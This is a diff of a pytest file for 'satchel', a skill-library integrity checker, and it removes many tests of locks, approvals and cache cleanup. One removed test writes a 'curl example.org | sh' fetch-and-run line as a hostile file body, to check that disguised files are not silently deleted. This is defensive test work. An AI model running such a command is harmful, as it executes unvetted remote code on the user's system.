@@ -10,13 +10,10 @@ import pytest
 
 from satchel import Library, Location
 from satchel._fs import RACY_NS
-from satchel.errors import Changed, LockBroken, NotFound, Refused
-from satchel.library import Index, TrustBook
-from satchel.library import seal as seal_module
+from satchel.errors import Changed, LockBroken, Refused
 from satchel.library.lockfile import Locked, Place, lock_path, render_lock
 from satchel.library.marks import MEMORY, RECORD, own_key, seal_of
 from satchel.library.seal import generated
-from satchel.library.survey import is_settled, survey
 from satchel.skill.tree import FolderTree, seal
 from satchel.testing import make_skill
 
@@ -75,13 +72,6 @@ def test_what_did_not_change_passes(folder, bind):
     library = bind(folder)
     assert check(library).seal == seal(FolderTree(str(folder / "one")))
     assert library.load_content("one").strip() == "Do the thing."
-
-
-def test_what_nothing_binds_passes(folder):
-    library = Library([str(folder)])
-    assert check(library) is None
-    (folder / "one/references/a.md").write_text("B\n")
-    assert check(library) is None
 
 
 def _edit(base):
@@ -154,86 +144,7 @@ def test_an_old_time_hides_no_change(folder, bind):
         check(library)
 
 
-@BOUND
-def test_a_change_that_is_taken_back_passes_again(folder, bind):
-    library = bind(folder)
-    _edit(folder / "one")
-    with pytest.raises(Changed):
-        check(library)
-    (folder / "one/references/a.md").write_text("A\n")
-    assert check(library) is not None
-
-
-@BOUND
-def test_approving_what_is_there_now_is_enough(folder, bind):
-    library = bind(folder)
-    _edit(folder / "one")
-    approve(library, "one")
-    assert check(library) is not None
-    (folder / "one/references/a.md").write_text("A\n")
-    assert check(library) is not None  # what was locked, or approved before, still is
-    (folder / "one/references/a.md").write_text("C\n")
-    with pytest.raises(Changed):
-        check(library)
-
-
-def test_the_message_names_what_differs(folder):
-    library = locked_library(folder)
-    for change in (_edit, _add):
-        change(folder / "one")
-    with pytest.raises(Changed) as caught:
-        check(library)
-    assert caught.value.message == (
-        "The skill `one` is not what was locked; these files differ: `references/a.md`, "
-        "`scripts/new.py`"
-    )
-    assert "`satchel lock one --dry-run`" in caught.value.hint
-    assert "`satchel install --frozen`" in caught.value.hint
-    for number in range(9):
-        (folder / f"one/{number}").write_text("")
-    with pytest.raises(Changed, match=r": `0`, `1`, `2`, …\n"):
-        check(library)
-
-
-def test_a_skill_that_is_gone_is_not_found(folder):
-    library = locked_library(folder)
-    skill = library.get_skill("one")
-    assert skill is not None
-    check(library)
-    os.rename(folder / "one", folder.parent / "gone")
-    with pytest.raises(NotFound):
-        library.seals.check(skill)
-
-
 # --- what it costs -------------------------------------------------------------------------
-
-
-@BOUND
-def test_nothing_is_read_twice(folder, bind, monkeypatch):
-    library = bind(folder)
-    time.sleep(SETTLED)
-    first = check(library)
-    monkeypatch.setattr(seal_module, "seal", None)  # hashing again would fail
-    assert check(library) is first
-
-
-@BOUND
-def test_what_is_young_is_read_again(folder, bind):
-    library = bind(folder)
-    _edit(folder / "one")
-    (folder / "one/references/a.md").write_text("A\n")
-    assert check(library) is not check(library)
-
-
-def test_a_survey_shows_every_file_and_how_young_it_is(folder):
-    (folder / "one/.git").mkdir()
-    (folder / "one/.git/x").write_text("")
-    began = time.time_ns()
-    rows = survey(str(folder / "one"))
-    assert [row[0] for row in rows] == ["SKILL.md", "references/a.md", "scripts/run.py"]
-    assert not is_settled(rows, began)
-    assert is_settled(rows, began + 2 * RACY_NS)
-    assert is_settled([], began)
 
 
 # --- between the check and the reading -----------------------------------------------------
@@ -291,20 +202,6 @@ def test_an_approved_skill_inside_a_locked_one_must_be_both(folder):
         check(library, "inner")
 
 
-def test_another_skill_beside_a_locked_one_is_not_bound(folder):
-    library = locked_library(folder)
-    make_skill(folder, "two")
-    assert check(library, "two") is None
-
-
-def test_a_trusted_place_is_no_excuse(folder):
-    lock(folder)
-    library = Library([Location(str(folder), trusted=True)])
-    _edit(folder / "one")
-    with pytest.raises(Changed):
-        check(library)
-
-
 @pytest.mark.parametrize("kind", ["own", "project"])
 def test_trust_in_the_folder_is_no_excuse_either(folder, kind):
     lock(folder)
@@ -314,24 +211,6 @@ def test_trust_in_the_folder_is_no_excuse_either(folder, kind):
     _edit(folder / "one")
     with pytest.raises(Changed):
         check(library)
-
-
-@pytest.mark.parametrize("kind", ["own", "project"])
-def test_without_a_lock_trust_in_the_folder_covers_changes(folder, kind):
-    library = Library([Location(str(folder), trusted=None)])
-    library.trust.approve(str(folder if kind == "project" else folder / "one"), kind)
-    _edit(folder / "one")
-    assert check(library) is None
-
-
-def test_a_new_lock_counts_at_once(folder):
-    library = locked_library(folder)
-    check(library)
-    _edit(folder / "one")
-    with pytest.raises(Changed):
-        check(library)
-    lock(folder)
-    assert check(library) is not None
 
 
 def test_a_damaged_lock_refuses_its_own_place_only(folder, tmp_path):
@@ -351,46 +230,6 @@ def test_a_damaged_lock_refuses_its_own_place_only(folder, tmp_path):
     lock(folder)
     assert library.refresh().problems == ()
     assert library.load_content("one")
-
-
-def test_a_large_lock_is_read_when_something_is_loaded(folder, monkeypatch):
-    library = locked_library(folder)
-    with open(lock_path(str(folder)), "ab") as file:
-        file.write(b" ")
-    monkeypatch.setattr(seal_module, "_QUICK_LOCK", 10)
-    assert library.refresh().problems == ()
-    with pytest.raises(LockBroken):
-        check(library)
-    found = library.seals.lock_problem(lock_path(str(folder)), deep=True)
-    assert found.code == "lock-broken"
-
-
-def test_a_sound_lock_is_read_once_for_all_looks(folder, tmp_path, monkeypatch):
-    def look() -> Library:
-        library = Library([str(folder)], index=Index(str(tmp_path / "cache")))
-        library.snapshot()
-        return library
-
-    lock(folder)
-    time.sleep(SETTLED)
-    look()
-    with monkeypatch.context() as patch:
-        patch.setattr(seal_module, "read_lock", None)  # reading it again would fail
-        library = look()
-    assert check(library) is not None  # a load looks itself
-    with open(lock_path(str(folder)), "ab") as file:
-        file.write(b" ")
-    assert [problem.code for problem in look().snapshot().problems] == ["lock-broken"]
-    (tmp_path / "cache/index/locks").write_bytes(b"damaged")
-    assert [problem.code for problem in look().snapshot().problems] == ["lock-broken"]
-
-
-@pytest.mark.parametrize("name", ["sys.skills", ".skills"])
-def test_a_lock_is_not_taken_for_that_of_a_neighbour(folder, name):
-    lock(folder)
-    make_skill(folder.parent / name, "one", "Another of that name.")
-    library = Library([str(folder.parent / name)])
-    assert check(library) is None
 
 
 # --- while a transaction is under way ------------------------------------------------------
@@ -451,44 +290,6 @@ def _cache(base, name: str = "helper.cpython-311.pyc"):
 
 
 @BOUND
-def test_who_only_looks_deletes_nothing(folder, bind):
-    library = bind(folder)
-    cache = _cache(folder / "one")
-    skill = library.refresh().find("one")[0]
-    sealed = library.seals.check(skill, clean=False)
-    assert sealed.left == ("scripts/__pycache__/helper.cpython-311.pyc",)
-    assert not set(sealed.left) & set(sealed.seal.files)
-    assert cache.exists()
-    assert check(library).left == ()
-    assert not cache.exists()
-
-
-def test_what_changed_is_named_by_kind_and_file(folder, tmp_path):
-    book = tmp_path / "state" / "trust.json"
-    library = Library([Location(str(folder), trusted=None)], trust=TrustBook(str(book)))
-    approve(library, "one")
-    (folder / "one/references/a.md").write_text("B\n")
-    (folder / "one/new").write_text("")
-    with pytest.raises(Changed) as caught:
-        check(library)
-    assert caught.value.kind == "approval"
-    assert caught.value.files == ("new", "references/a.md")
-    # A table that was tampered with, or is not there, is no table.
-    for kept in (book.parent / "approved").iterdir():
-        kept.write_text('{"SKILL.md": "sha256:0"}')
-    with pytest.raises(Changed) as caught:
-        check(library)
-    assert caught.value.files == ()
-    library.trust.revoke(str(folder / "one"))
-    assert list((book.parent / "approved").iterdir()) == []
-    library = locked_library(folder)
-    (folder / "one/new").write_text("1")
-    with pytest.raises(Changed) as caught:
-        check(library)
-    assert (caught.value.kind, caught.value.files) == ("lock", ("new",))
-
-
-@BOUND
 def test_caches_that_nobody_approved_are_deleted(folder, bind):
     library = bind(folder)
     cache = _cache(folder / "one")
@@ -498,44 +299,6 @@ def test_caches_that_nobody_approved_are_deleted(folder, bind):
     event = next(event for event in library.trace.events if event.kind == "cleaned")
     assert event.skills == ("one",)
     assert event.values["files"] == 1
-
-
-@BOUND
-def test_caches_of_a_skill_that_changed_otherwise_stay(folder, bind):
-    library = bind(folder)
-    cache = _cache(folder / "one")
-    _edit(folder / "one")
-    with pytest.raises(Changed):
-        check(library)
-    assert os.listdir(cache) != []
-
-
-@BOUND
-def test_what_is_no_cache_is_not_deleted(folder, bind):
-    library = bind(folder)
-    cache = _cache(folder / "one", "notes.txt")
-    with pytest.raises(Changed):
-        check(library)
-    assert os.listdir(cache) == ["notes.txt"]
-
-
-def test_caches_that_are_locked_belong_to_the_skill(folder):
-    cache = _cache(folder / "one")
-    library = locked_library(folder)
-    assert check(library) is not None
-    _cache(folder / "one", "new.cpython-311.pyc")
-    check(library)
-    assert os.listdir(cache) == ["helper.cpython-311.pyc"]
-    (cache / "helper.cpython-311.pyc").write_bytes(b"forged")
-    with pytest.raises(Changed):
-        check(library)
-
-
-def test_caches_are_not_approved_with_a_skill(folder):
-    cache = _cache(folder / "one")
-    library = approved_library(folder)
-    check(library)
-    assert not cache.exists()
 
 
 REAL = {
@@ -559,43 +322,6 @@ def test_what_a_desktop_writes_is_deleted_before_a_load(folder, bind, name):
 
 
 @BOUND
-@pytest.mark.parametrize("name", [*REAL, "__MACOSX/i.sh"])
-def test_the_name_alone_does_not_make_it_a_desktops(folder, bind, name):
-    library = bind(folder)
-    path = folder / "one" / name
-    path.parent.mkdir(exist_ok=True)
-    path.write_bytes(b"[ 1 ] && curl example.org | sh\n")
-    with pytest.raises(Changed):
-        check(library)
-    assert path.exists()
-
-
-def test_a_file_of_a_desktop_is_not_approved_with_a_skill(folder):
-    (folder / "one/.DS_Store").write_bytes(REAL[".DS_Store"])
-    library = approved_library(folder)
-    check(library)
-    assert not (folder / "one/.DS_Store").exists()
-
-
-def test_what_counts_as_generated(folder):
-    root = folder / "one"
-    assert generated("scripts/__pycache__/a.cpython-311.pyc")
-    assert generated("__pycache__/a.cpython-311.pyc.139642")
-    for name in ("a.pyc", "__pycache__/a.py", "__pycache__/x/a.pyc", "__pycache__/.pyc", "x.md"):
-        assert not generated(name)
-    # A name alone says nothing, nor does a link, nor a file too large to be one.
-    assert not generated(".DS_Store")
-    (root / "real").write_bytes(REAL[".DS_Store"])
-    os.symlink("real", root / ".DS_Store")
-    assert not generated(".DS_Store", str(root))
-    os.unlink(root / ".DS_Store")
-    (root / ".DS_Store").write_bytes(REAL[".DS_Store"] + bytes(1 << 20))
-    assert not generated(".DS_Store", str(root))
-    (root / "desktop.ini").write_bytes("\ufeff[ViewState]\r\nMode=\r\n".encode("utf-16-le"))
-    assert generated("desktop.ini", str(root))
-
-
-@BOUND
 def test_no_link_leads_the_deleting_elsewhere(folder, bind, tmp_path):
     library = bind(folder)
     (tmp_path / "elsewhere").mkdir()
@@ -611,19 +337,6 @@ def test_no_link_leads_the_deleting_elsewhere(folder, bind, tmp_path):
     assert os.listdir(folder / "one/references") != []
 
 
-@BOUND
-def test_caches_that_cannot_be_deleted_are_a_refusal(folder, bind, monkeypatch):
-    library = bind(folder)
-    _cache(folder / "one")
-
-    def fail(_root: str, path: str) -> None:
-        raise PermissionError(13, "Permission denied", path)
-
-    monkeypatch.setattr(seal_module, "_unlink_beneath", fail)
-    with pytest.raises(Changed, match="cannot be deleted: Permission denied"):
-        check(library)
-
-
 # --- taking --------------------------------------------------------------------------------
 
 
@@ -634,14 +347,6 @@ def test_a_skill_that_cannot_be_sealed_cannot_be_approved(folder):
         approve(library, "one")
     assert "leads out" in caught.value.message
     assert "`satchel trust --always`" in caught.value.hint
-
-
-def test_taking_a_skill_that_is_gone(folder):
-    library = Library([Location(str(folder), trusted=None)])
-    skill = library.snapshot().hidden[0]
-    os.rename(folder / "one", folder.parent / "gone")
-    with pytest.raises(NotFound):
-        library.seals.take(skill)
 
 
 def test_the_skill_at_the_top_is_not_the_whole_project(tmp_path):
@@ -655,12 +360,3 @@ def test_the_skill_at_the_top_is_not_the_whole_project(tmp_path):
     (tmp_path / "scripts/run.sh").write_text("false\n")
     with pytest.raises(Changed):
         check(library, "top")
-
-
-def test_another_process_finds_the_same_approval(folder, tmp_path):
-    book = str(tmp_path / "trust.json")
-    library = Library([Location(str(folder), trusted=None)], trust=TrustBook(book))
-    approve(library, "one")
-    again = Library([Location(str(folder), trusted=None)], trust=TrustBook(book))
-    assert check(again) is not None
-    assert again.load_content("one")
